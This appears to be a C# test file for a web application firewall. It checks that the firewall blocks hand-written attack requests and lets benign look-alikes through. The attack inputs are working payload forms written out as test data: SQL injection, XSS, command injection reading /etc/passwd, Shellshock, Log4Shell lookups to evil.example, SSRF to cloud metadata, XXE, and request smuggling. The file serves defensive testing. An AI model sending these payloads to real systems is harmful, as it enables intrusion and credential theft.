namespace Portcullis.Waf.Tests.BuiltIn;

/// <summary>
/// One or more hand-written attacks per class the built-in rules claim, each blocked by the anomaly evaluation and
/// matched by the rule meant for it; and ordinary requests (including ones that look a little like attacks) that pass.
/// </summary>
public sealed class BuiltInDetectionTests
{
    [Theory]
    // SQL injection
    [InlineData("sqli", 210910, "GET", "/products?id=1%27%20UNION%20ALL%20SELECT%20username,password%20FROM%20users--", null, null, null)]
    [InlineData("sqli", 210911, "GET", "/products?id=1;%20DROP%20TABLE%20users", null, null, null)]
    [InlineData("sqli", 210912, "POST", "/login", null, "application/x-www-form-urlencoded", "user=admin%27%20OR%20%27a%27%3D%27a&pass=x")]
    [InlineData("sqli", 210913, "GET", "/products?id=1%20AND%20SLEEP(5)", null, null, null)]
    [InlineData("sqli", 210914, "GET", "/products?id=1%20AND%20extractvalue(1,concat(0x7e,version()))", null, null, null)]
    [InlineData("sqli", 210900, "GET", "/", "Cookie: session=1' or '1'='1", null, null)]
    // XSS
    [InlineData("xss", 210810, "GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", null, null, null)]
    [InlineData("xss", 210800, "POST", "/comments", null, "application/json", "{\"body\":\"<img src=x onerror=alert(1)>\"}")]
    [InlineData("xss", 210810, "GET", "/go?next=javascript:alert(document.domain)", null, null, null)]
    [InlineData("xss", 210811, "GET", "/profile?bio=%3Ciframe%20src%3D//evil.example%3E", null, null, null)]
    // Path traversal and LFI
    [InlineData("traversal", 210301, "GET", "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", null, null, null)]
    [InlineData("traversal", 210300, "GET", "/download?file=%252e%252e%252f%252e%252e%252fboot.ini", null, null, null)]
    [InlineData("traversal", 210123, "GET", "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", null, null, null)]
    [InlineData("traversal", 210312, "GET", "/download?file=..%5C..%5Cwindows%5Csystem32%5Cdrivers%5Cetc%5Chosts", null, null, null)]
    [InlineData("lfi", 210314, "GET", "/view?page=/etc/shadow", null, null, null)]
    [InlineData("lfi", 210310, "POST", "/render", null, "application/x-www-form-urlencoded", "tpl=C%3A%5CWindows%5Cwin.ini")]
    [InlineData("lfi", 210311, "GET", "/index.php?page=php://filter/convert.base64-encode/resource=config.php", null, null, null)]
    // RCE / command injection, shellshock
    [InlineData("cmdi", 210505, "GET", "/ping?host=127.0.0.1;cat%20/etc/hosts", null, null, null)]
    [InlineData("cmdi", 210500, "POST", "/tools/lookup", null, "application/json", "{\"host\":\"example.com$(whoami)\"}")]
    [InlineData("cmdi", 210506, "GET", "/ping?host=%60id%60", null, null, null)]
    [InlineData("cmdi", 210501, "GET", "/ping?host=x;cat${IFS}/etc/passwd", null, null, null)]
    [InlineData("cmdi", 210503, "GET", "/run?c=x%26%20powershell%20-enc%20SQBFAFgA", null, null, null)]
    [InlineData("shellshock", 210510, "GET", "/cgi-bin/status", "User-Agent: () { :; }; /bin/bash -c 'id'", null, null)]
    // Log4Shell and template injection
    [InlineData("jndi", 210600, "GET", "/", "X-Api-Version: ${jndi:ldap://evil.example/a}", null, null)]
    [InlineData("jndi", 210600, "GET", "/?q=%24%7B%24%7Blower%3Aj%7Dndi%3Armi%3A%2F%2Fevil.example%2Fx%7D", null, null, null)]
    [InlineData("ssti", 210610, "GET", "/hello?name=%7B%7B7*7%7D%7D", null, null, null)]
    [InlineData("ssti", 210610, "POST", "/hello", null, "application/x-www-form-urlencoded", "name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D")]
    // SSRF
    [InlineData("ssrf", 210401, "GET", "/fetch?url=http://169.254.169.254/latest/meta-data/iam/", null, null, null)]
    [InlineData("ssrf", 210400, "GET", "/fetch?url=gopher://127.0.0.1:6379/_FLUSHALL", null, null, null)]
    [InlineData("ssrf", 210402, "GET", "/fetch?url=http://2130706433/admin", null, null, null)]
    // Scanners and probes
    [InlineData("scanner", 210200, "GET", "/", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)", null, null)]
    [InlineData("scanner", 210210, "GET", "/.env", null, null, null)]
    [InlineData("scanner", 210210, "GET", "/.git/config", null, null, null)]
    // Protocol abuse
    [InlineData("protocol", 210100, "POST", "/", "Transfer-Encoding: chunked|Content-Length: 4", null, null)]
    [InlineData("protocol", 210110, "GET", "/reset", "Host: shop.example|Host: evil.example", null, null)]
    [InlineData("protocol", 210120, "GET", "/file?name=report.php%00.pdf", null, null, null)]
    [InlineData("protocol", 210121, "GET", "/search?q=%zz%u002e", null, null, null)]
    [InlineData("protocol", 210118, "GET", "/redirect?to=%0d%0aSet-Cookie:%20admin=1", null, null, null)]
    [InlineData("protocol", 210116, "GET", "/", "X-Note: a\rInjected: yes", null, null)]
    // Other injections
    [InlineData("ssi", 210700, "GET", "/page?name=%3C!--%23exec%20cmd%3D%22id%22--%3E", null, null, null)]
    // An XML body with a DTD already fails the XML processor (400 from the prelude); XML inside a parameter is ours.
    [InlineData("xxe", 210711, "POST", "/api/import", null, "application/x-www-form-urlencoded", "doc=%3C%21DOCTYPE+r+%5B%3C%21ENTITY+x+SYSTEM+%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E%3Cr%3E%26x%3B%3C%2Fr%3E")]
    [InlineData("nosqli", 210720, "POST", "/login", null, "application/x-www-form-urlencoded", "user=admin&password[$ne]=x")]
    public void Attack_HandWritten_IsBlockedByItsRule(string attackClass, int ruleId, string method, string uri, string? headers, string? contentType, string? body)
    {
        var tx = BuiltInRequest.Run(method, uri, headers?.Split('|'), contentType, body);

        Assert.True(tx.Interruption is { Status: 403 or 400 }, $"{attackClass} not blocked:\n{tx.Describe()}");
        Assert.Contains(ruleId, tx.Ids());
    }

    [Theory]
    [InlineData("GET", "/search?q=union%20station%20parking%20hours", null, null, null)]
    [InlineData("GET", "/search?q=O%27Reilly%20SQL%20cookbook", null, null, null)]
    [InlineData("GET", "/search?q=..%2F%20meaning%20in%20html%20links", null, null, null)]
    [InlineData("GET", "/search?q=cat%20%26%20dog%20toys", null, null, null)]
    [InlineData("GET", "/search?q=windows%20system32%20folder%20size", null, null, null)]
    [InlineData("GET", "/search?q=javascript%3A%20the%20good%20parts", null, null, null)]
    [InlineData("GET", "/lib/jquery.min.js?v=3.7.1", "Referer: https://shop.example/online/list/oneway-hgh-bjs?_=1&depdate=2023-07-04", null, null)]
    [InlineData("GET", "/api/v1/orders?sort=created_at&order=desc&page=2", "Cookie: session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl; _ga=GA1.2.3", null, null)]
    [InlineData("GET", "/status", "User-Agent: curl/8.4.0", null, null)]
    [InlineData("POST", "/reviews/new", null, "application/x-www-form-urlencoded", "name=Jo+Smith&comment=I%27m+allergic+to+nuts+%26+dairy+--+please+note.+%22Select+your+battles+wisely%22+--+he+said.&rating=4")]
    [InlineData("POST", "/profile", null, "application/x-www-form-urlencoded", "resume=C%3A%5CUsers%5Calice%5CDocuments%5Cresume.docx&city=Toronto")]
    [InlineData("POST", "/graphql", null, "application/json", "{\"query\":\"query {\\n  user(id: 5) {\\n    id\\n    name\\n    orders { id total }\\n  }\\n}\",\"variables\":{}}")]
    [InlineData("POST", "/comments", null, "application/json", "{\"body\":\"## Release notes\\n\\n- Fixed `build` step\\n- See [docs](https://docs.example/guide)\\n\\n> Works on my machine & in CI\"}")]
    [InlineData("POST", "/api/webhooks", null, "application/json", "{\"url\":\"https://hooks.example.com/notify?id=42\",\"events\":[\"order.created\"]}")]
    public void Benign_HandWritten_IsNotBlocked(string method, string uri, string? headers, string? contentType, string? body)
    {
        var tx = BuiltInRequest.Run(method, uri, headers?.Split('|'), contentType, body);

        Assert.True(tx.Interruption is null, $"benign request blocked:\n{tx.Describe()}");
        Assert.Equal("0", tx.GetTxVariable("inbound_anomaly_score"));
    }
}
